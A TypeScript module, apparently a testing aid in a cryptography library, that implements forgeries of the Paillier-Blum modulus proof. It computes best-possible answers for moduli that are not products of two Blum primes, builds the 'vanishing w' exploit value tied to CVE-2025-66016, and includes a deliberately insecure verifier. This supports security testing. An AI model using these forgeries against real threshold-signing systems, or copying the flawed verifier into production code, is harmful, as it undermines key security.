import { bitLength, jacobi, modulo, mustInvert } from "../arithmetic/integers.ts";
import { isProbablePrime, powBySquaring, powModulo } from "../arithmetic/openssl.ts";
import type { Parameters } from "../parameters.ts";
import {
  type BlumModulusAnswer,
  type BlumModulusProof,
  blumModulusChallenges,
} from "../proofs/paillier-blum-modulus.ts";
import type { ProofContext } from "../transcript.ts";

/** Attacks on Πmod: moduli that are not products of two Blum primes, and the best possible proofs for them. */

/** The x with x = residue of the k-th entry modulo its prime, for distinct primes. */
const chinese = (entries: readonly { readonly residue: bigint; readonly prime: bigint }[]): bigint => {
  const all = entries.reduce((product, { prime }) => product * prime, 1n);
  const sum = entries.reduce((total, { residue, prime }) => {
    const rest = all / prime;
    return total + residue * rest * mustInvert(rest, prime);
  }, 0n);
  return modulo(sum, all);
};

export const productOf = (primes: readonly bigint[]): bigint =>
  primes.reduce((product, prime) => product * prime, 1n);

/** The next primes below a number that are 3 mod 4, descending. */
export const blumPrimesBelow = (limit: bigint, count: number): readonly bigint[] => {
  const found: bigint[] = [];
  const first = limit - modulo(limit - 3n, 4n);
  for (let candidate = first; found.length < count; candidate -= 4n) {
    if (isProbablePrime(candidate)) found.push(candidate);
  }
  return found;
};

const SMALLEST_OF_OPENSSL = 512; // bits

/** A fourth root of a square modulo a prime that is 3 mod 4. */
const fourthRoot = (value: bigint, prime: bigint): bigint => {
  const exponent = ((prime + 1n) / 4n) ** 2n;
  const power = bitLength(prime) < SMALLEST_OF_OPENSSL ? powBySquaring : powModulo;
  return power(modulo(value, prime), exponent, prime);
};

const twisted = (modulus: bigint, w: bigint, y: bigint, a: boolean, b: boolean): bigint =>
  modulo((a ? -1n : 1n) * (b ? w : 1n) * y, modulus);

const CHOICES = [false, true].flatMap((a) => [false, true].map((b) => ({ a, b })));

/**
 * The strongest answers of an attacker who knows all primes of N and chose w: correct wherever an answer
 * exists. x is 0 modulo primes that divide w.
 */
export const bestAnswers = (
  context: ProofContext,
  level: Parameters,
  primes: readonly bigint[],
  w: bigint,
): BlumModulusProof => {
  const modulus = productOf(primes);
  const inverse = mustInvert(modulus, productOf(primes.map((prime) => prime - 1n)));
  const answers = blumModulusChallenges(context, level, modulus, w).map((y): BlumModulusAnswer => {
    const fits = CHOICES.find(({ a, b }) =>
      primes.every((prime) => jacobi(twisted(modulus, w, y, a, b), prime) !== -1),
    );
    const { a, b } = fits ?? { a: false, b: false };
    const target = twisted(modulus, w, y, a, b);
    const x = chinese(primes.map((prime) => ({ prime, residue: fourthRoot(target, prime) })));
    return { x, a, b, z: powBySquaring(y, inverse, modulus) };
  });
  return { w, answers };
};

/** The w of CVE-2025-66016: 1 modulo one prime of N, and 0 modulo all others. */
export const vanishingW = ([kept, ...others]: readonly bigint[]): bigint =>
  chinese([{ prime: kept ?? 0n, residue: 1n }, ...others.map((prime) => ({ prime, residue: 0n }))]);

/**
 * INSECURE: whether Figure 12's two equations hold, for each challenge. These are the only checks of a
 * verifier that ignores w and N, like the implementations that CVE-2025-66016 names.
 */
export const equationsHold = (
  context: ProofContext,
  level: Parameters,
  modulus: bigint,
  { w, answers }: BlumModulusProof,
): readonly boolean[] =>
  blumModulusChallenges(context, level, modulus, w).map((y, i) => {
    const answer = answers[i];
    if (answer === undefined) return false;
    const { x, a, b, z } = answer;
    const isRoot = powBySquaring(x, 4n, modulus) === twisted(modulus, w, y, a, b);
    return isRoot && powBySquaring(z, modulus, modulus) === y;
  });
